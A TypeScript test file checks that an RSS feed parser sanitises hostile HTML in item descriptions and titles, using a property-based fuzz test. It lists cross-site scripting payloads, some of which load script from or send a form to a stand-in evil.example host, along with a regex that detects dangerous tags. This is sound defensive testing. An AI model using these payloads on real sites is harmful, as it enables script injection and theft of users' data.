import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseFeed } from './parse-feed.js';

const escaped = (html: string): string => html.replaceAll('&', '&amp;').replaceAll('<', '&lt;');

function contentOf(html: string): string {
  const xml = `<rss version="2.0"><channel><item><description>${escaped(html)}</description></item></channel></rss>`;
  return parseFeed(new TextEncoder().encode(xml)).entries[0]?.summary ?? '';
}

const ATTACKS = [
  '<script>steal()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=steal()>',
  '<a href="javascript:steal()">go</a>',
  '<a href="java&#x09;script:steal()">go</a>',
  '<a href=" &#14; javascript:steal()">go</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input name="card"></form>',
  '<div style="background:url(javascript:steal())">styled</div>',
  '<svg onload="steal()"><a xlink:href="javascript:steal()">x</a></svg>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
];

const DANGER =
  /<\s*(?:script|iframe|object|embed|form|input|meta|base|style|svg|link)\b|\son\w+\s*=|javascript:|data:text|style=/i;

describe('hostile HTML in feeds', () => {
  it.each(ATTACKS)('is made safe: %s', (attack) => {
    const safe = contentOf(`<p>before</p>${attack}<p>after</p>`);
    expect(safe).not.toMatch(DANGER);
    expect(safe).toContain('<p>before</p>');
    expect(safe).toContain('after');
  });

  it('is made safe in any order and nesting', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...ATTACKS, '<p>', '</p>', '<', '">', '<!--'), { maxLength: 8 }),
        (parts) => {
          expect(contentOf(parts.join(''))).not.toMatch(DANGER);
        },
      ),
      { numRuns: 200, seed: 7 },
    );
  });

  it('takes code out of titles', () => {
    const xml = `<rss version="2.0"><channel><item><title>${escaped('Safe<script>steal()</script> title <form>')}</title></item></channel></rss>`;
    expect(parseFeed(new TextEncoder().encode(xml)).entries[0]?.title).toBe('Safe title');
  });
});
